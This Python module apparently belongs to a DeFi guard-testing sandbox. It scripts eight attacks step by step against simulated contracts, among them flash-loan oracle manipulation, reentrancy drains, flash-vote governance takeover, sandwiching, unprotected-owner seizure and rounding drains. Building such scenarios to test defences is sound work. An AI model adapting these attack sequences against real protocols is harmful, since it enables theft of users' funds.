"""Attack scenarios against the sandbox, each realistic enough to extract funds when unguarded."""

from __future__ import annotations

from abc import ABC, abstractmethod
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any, ClassVar

from ..chain.base import TxRequest
from ..chain.contract import Contract
from ..chain.types import TxReceipt
from ..exceptions import ConfigError
from . import _layout as L
from .deploy import Sandbox, deploy_contract
from .senders import sim_addresses

__all__ = ["SCENARIOS", "Scenario", "get_scenario"]

Step = tuple[str, Callable[[], TxReceipt]]


class Scenario(ABC):
    """One attack. `prepare` sets the attacker up; `steps` yields its exploit transactions one by
    one (a guard may act between them); `asset` is what `loot` is counted in."""

    name: ClassVar[str]
    title: ClassVar[str]
    target: ClassVar[str | None] = None  # sandbox key of the victim protocol
    asset: ClassVar[str] = "usd"  # "usd" (USD + COL at the pre-attack price) or "eth"
    stoppable: ClassVar[bool] = True  # True when pausing the target can stop later steps

    def __init__(self, sandbox: Sandbox, seed: int = 0, cache_dir: Any = None) -> None:
        self.sb = sandbox
        self.backend = sandbox.backend
        self.cache_dir = cache_dir
        self.attacker = sim_addresses(seed, 1, f"attacker-{self.name}")[0]
        self.contracts: list[Contract] = []
        self.capital = 0.0  # value the attacker was funded with (not loot)
        self.price = 1.0  # pre-attack COL price in USD, set by the runner

    # --- helpers -------------------------------------------------------------------------
    def tx(self, c: Contract, fn: str, *args: Any, sender: str | None = None, value: int = 0) -> TxReceipt:
        data = c.abi.encode_call(fn, args)
        return self.backend.send(TxRequest(c.address, data, value, sender or self.attacker), check=False)

    def admin(self, c: Contract, fn: str, *args: Any) -> TxReceipt:
        return self.backend.send(TxRequest(c.address, c.abi.encode_call(fn, args), 0, self.sb.admin))

    def fund(self, eth: int = 20 * L.E18, usd: int = 0, col: int = 0, to: str | None = None) -> None:
        to = to or self.attacker
        if to in self.holders:
            self.capital += eth / L.E18 if self.asset == "eth" else (usd + col * self.price) / L.E18
        self.backend.send(TxRequest(to, b"", eth, self.sb.admin))
        if usd:
            self.admin(self.sb["usd"], "mint", to, usd)
        if col:
            self.admin(self.sb["col"], "mint", to, col)

    def deploy(self, name: str, *args: Any) -> Contract:
        c = deploy_contract(self.backend, name, *args, sender=self.attacker, cache_dir=self.cache_dir)
        self.contracts.append(c)
        return c

    @property
    def holders(self) -> list[str]:
        return [self.attacker, *(c.address for c in self.contracts)]

    def holdings(self, price: float) -> float:
        """Value the attacker holds now, in whole units of `asset` (COL valued at `price`)."""
        if self.asset == "eth":
            return sum(self.backend.balance(a) for a in self.holders) / L.E18
        usd, col = self.sb["usd"], self.sb["col"]
        return sum(usd.balanceOf(a) + col.balanceOf(a) * price for a in self.holders) / L.E18

    # --- the attack ----------------------------------------------------------------------
    @abstractmethod
    def prepare(self) -> None: ...

    @abstractmethod
    def steps(self) -> Iterator[Step]: ...


class FlashOracle(Scenario):
    name = "flash-oracle"
    title = "flash-loan oracle manipulation of the lending pool (3 escalating rounds)"
    target = "lending"

    def prepare(self) -> None:
        sb = self.sb
        self.fund(col=300_000 * L.E18)
        self.bot = self.deploy(
            "AttackOracle",
            sb["flash"].address,
            sb["amm"].address,
            sb["lending"].address,
            sb["col"].address,
            sb["usd"].address,
        )
        self.tx(sb["col"], "transfer", self.bot.address, 300_000 * L.E18)
        self.tx(self.bot, "post_collateral", 300_000 * L.E18)

    def steps(self) -> Iterator[Step]:
        for flash in (400_000, 700_000, 1_200_000):
            yield f"flash {flash:,} USD, pump, borrow, dump", partial(self.tx, self.bot, "attack", flash * L.E18)


class ReentrancyScenario(Scenario):
    name = "reentrancy"
    title = "reentrancy drain of the ether vault (19 re-entries per transaction)"
    target = "vault"
    asset = "eth"

    def prepare(self) -> None:
        self.fund(eth=120 * L.E18)
        self.bot = self.deploy("AttackReentrancy", self.sb["vault"].address)

    def steps(self) -> Iterator[Step]:
        for i in range(8):
            yield (
                f"round {i + 1}: deposit 10 ETH, withdraw x20",
                partial(self.tx, self.bot, "attack", 19, value=10 * L.E18),
            )


class GovernanceTakeover(Scenario):
    name = "governance"
    title = "flash-loan governance takeover: propose, flash-vote, execute a treasury drain"
    target = "governance"

    def prepare(self) -> None:
        sb = self.sb
        self.fund()
        self.bot = self.deploy("AttackGovernance", sb["flash"].address, sb["governance"].address, sb["gov"].address)
        self.admin(sb["gov"], "mint", self.bot.address, 1_000 * L.E18)  # bought to pay the loan fee

    def steps(self) -> Iterator[Step]:
        sb = self.sb
        gov, usd = sb["governance"], sb["usd"]
        loot = usd.abi.encode_call("transfer", (self.attacker, usd.balanceOf(gov.address)))
        pid = gov.next_id()
        yield "propose: treasury -> attacker", lambda: self.tx(gov, "propose", usd.address, loot)
        yield "flash-borrow GOV and vote", lambda: self.tx(self.bot, "flash_vote", pid, L.FLASH_GOV)

        def wait_and_execute() -> TxReceipt:
            self.backend.mine(5)
            return self.tx(gov, "execute", pid)

        yield "wait out the delay, execute", wait_and_execute


class DormantTransfer(Scenario):
    name = "dormant-transfer"
    title = "large transfer out of an address dormant for 300 blocks (a stolen key)"
    target = None
    stoppable = False

    def prepare(self) -> None:
        self.fund(usd=250_000 * L.E18)
        self.backend.mine(300)

    def steps(self) -> Iterator[Step]:
        usd = self.sb["usd"]
        yield (
            "move everything to a fresh address",
            partial(self.tx, usd, "transfer", self.thief, usd.balanceOf(self.attacker)),
        )

    @property
    def thief(self) -> str:
        return sim_addresses(0, 1, "thief")[0]

    @property
    def holders(self) -> list[str]:
        return [self.thief]


class DosBurst(Scenario):
    name = "dos-burst"
    title = "DoS burst: 40 failing transactions against the lending pool from 4 addresses"
    target = "lending"
    stoppable = False

    def prepare(self) -> None:
        self.spammers = sim_addresses(0, 4, "spam")
        for a in self.spammers:
            self.fund(eth=5 * L.E18, to=a)

    def steps(self) -> Iterator[Step]:
        lending = self.sb["lending"]
        for i in range(40):
            yield (
                f"failing borrow {i + 1}",
                partial(self.tx, lending, "borrow", 10**9 * L.E18, sender=self.spammers[i % 4]),
            )


class Sandwich(Scenario):
    name = "sandwich"
    title = "sandwich: front-run and back-run a victim's loose-slippage swap"
    target = "amm"
    stoppable = False

    def prepare(self) -> None:
        self.fund(usd=300_000 * L.E18)
        self.victim = sim_addresses(0, 1, "victim")[0]
        self.fund(usd=60_000 * L.E18, to=self.victim)
        for who in (self.attacker, self.victim):
            for tok in ("usd", "col"):
                self.tx(self.sb[tok], "approve", self.sb["amm"].address, 2**256 - 1, sender=who)

    def steps(self) -> Iterator[Step]:
        amm, usd, col = self.sb["amm"], self.sb["usd"], self.sb["col"]
        yield "front-run: buy COL", lambda: self.tx(amm, "swap", usd.address, 200_000 * L.E18, 0)
        yield "victim buys COL", lambda: self.tx(amm, "swap", usd.address, 50_000 * L.E18, 0, sender=self.victim)
        yield "back-run: sell COL", lambda: self.tx(amm, "swap", col.address, col.balanceOf(self.attacker), 0)


class UnprotectedAdmin(Scenario):
    name = "unprotected-admin"
    title = "unprotected set_owner on the rewards distributor, then sweep"
    target = "rewards"

    def prepare(self) -> None:
        self.fund()

    def steps(self) -> Iterator[Step]:
        rewards, usd = self.sb["rewards"], self.sb["usd"]
        yield "take ownership", lambda: self.tx(rewards, "set_owner", self.attacker)
        yield "sweep the rewards", lambda: self.tx(rewards, "sweep", self.attacker, usd.balanceOf(rewards.address))


class RoundingSplit(Scenario):
    name = "rounding-split"
    title = "rounding/price-split drain of the share vault (50 zero-share withdrawals per tx)"
    target = "sharevault"

    def prepare(self) -> None:
        self.fund()
        self.bot = self.deploy("AttackRounding", self.sb["sharevault"].address)

    def steps(self) -> Iterator[Step]:
        sv = self.sb["sharevault"]
        for i in range(8):

            def one() -> TxReceipt:
                n = 50  # every piece stays below the price of one share after all n pieces
                piece = sv.total_assets() // (sv.total_shares() + n) - 1
                return self.tx(self.bot, "drain", max(piece, 1), n)

            yield f"round {i + 1}: 50 withdrawals below one share", one


SCENARIOS: dict[str, type[Scenario]] = {
    s.name: s
    for s in (
        FlashOracle,
        ReentrancyScenario,
        GovernanceTakeover,
        DormantTransfer,
        DosBurst,
        Sandwich,
        UnprotectedAdmin,
        RoundingSplit,
    )
}


def get_scenario(name: str) -> type[Scenario]:
    """The scenario class called `name`; a ConfigError naming the known ones otherwise."""
    try:
        return SCENARIOS[name]
    except KeyError:
        raise ConfigError(f"no attack scenario {name!r}; known: {', '.join(SCENARIOS)}") from None
